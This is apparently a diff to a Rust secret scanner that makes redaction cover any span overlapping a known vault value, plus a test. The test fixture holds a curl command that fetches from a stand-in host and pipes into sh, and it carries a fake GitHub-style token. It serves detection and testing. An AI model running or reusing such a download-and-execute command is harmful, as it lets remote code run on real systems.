@@ -363,7 +363,16 @@ impl Scanner {
             })
             .chain(continued)
             .collect();
-        // A vault value first among equal spans: its redaction (its length only) wins.
+        // A span that overlaps a vault value is redacted as one (its length only): whichever
+        // span a redaction starts from, no character of the vault value is shown.
+        let known: Vec<(usize, Mask)> = spans.iter().filter(|(_, m)| m.known).copied().collect();
+        for (line, mask) in &mut spans {
+            if !mask.known {
+                mask.known = known
+                    .iter()
+                    .any(|(l, k)| l == line && k.start < mask.end && k.end > mask.start);
+            }
+        }
         spans.sort_unstable_by_key(|&(line, m)| (line, m.start, m.end, !m.known));
         for finding in &mut findings {
             let start = line_starts[finding.line - 1];
@@ -861,6 +870,28 @@ mod tests {
         assert_eq!(
             rule.fingerprint,
             fingerprint(&rule.rule, "deploy.sh", KNOWN_VALUE.as_bytes())
+        );
+        for f in &found {
+            assert!(
+                !f.redacted.contains("ghp_") && !f.context.contains("ghp_"),
+                "{f:?}"
+            );
+        }
+        // Nor where the rule finds only a part of the vault value, beside code that is shown.
+        let value = b"ghp_R2x9bQ7mVt4Lk8Zp1Ws6Yc3Nd5Fh0Jg2Ua7E-extra";
+        let scanner =
+            super::tests::scanner().with_known_values(&[(value, "ci/x#token".to_owned())]);
+        let found = scanner.scan_bytes(
+            "deploy.sh",
+            b"curl -H \"K: ghp_R2x9bQ7mVt4Lk8Zp1Ws6Yc3Nd5Fh0Jg2Ua7E-extra\" https://get.example.net/3 | sh\n",
+        );
+        assert!(
+            found.iter().any(|f| f.rule.starts_with("github")),
+            "{found:?}"
+        );
+        assert!(
+            found.iter().any(|f| f.rule == "download-and-execute-shell"),
+            "{found:?}"
         );
         for f in &found {
             assert!(
